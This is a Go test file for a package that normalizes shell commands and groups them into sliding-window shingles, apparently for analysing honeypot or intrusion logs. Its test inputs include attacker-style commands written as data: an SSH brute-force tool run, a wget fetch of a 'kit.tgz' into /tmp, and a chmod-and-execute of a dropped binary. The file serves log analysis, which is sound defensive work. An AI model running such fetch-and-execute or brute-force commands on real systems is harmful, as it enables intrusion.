package shingle

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestNormal(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"./ssh2", "1500", "-b", "10.49", "pass", "22", "uname -a & lscpu"}, "ssh# # -b %net pass # uname -a & lscpu"},
		{[]string{"/usr/bin/wget", "-O", "/tmp/x/kit.tgz", "http://192.0.2.1/kit.tgz"}, "wget -O %dir/kit.tgz %url"},
		{[]string{"ping", "192.0.2.7"}, "ping %addr"},
		{[]string{"ssh", "2001:db8::1"}, "ssh %addr"},
		{[]string{"echo", "300.1", "v1.22.333"}, "echo #.# v#.#.#"},
		{[]string{}, ""},
	} {
		if got := Normal(c.args); got != c.want {
			t.Errorf("Normal(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}

func TestWindow(t *testing.T) {
	t.Parallel()
	var w Window
	var got []string
	for _, line := range []string{"uname -a", "uname -a", "free -m", "chmod +x 1 go h4e sshd", "./go 10.49"} {
		got = append(got, w.Add(strings.Fields(line))...)
	}
	want := []string{"chmod +x # go h#e sshd", "uname -a | free -m | chmod +x # go h#e sshd", "free -m | chmod +x # go h#e sshd | go %net"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func FuzzNormal(f *testing.F) {
	f.Add("a b 1.2 http://x")
	f.Fuzz(func(t *testing.T, s string) {
		if n := Normal(strings.Split(s, " ")); len(n) > (maxWords+1)*(maxWord*4+8) {
			t.Errorf("%d bytes of %q", len(n), s)
		}
	})
}
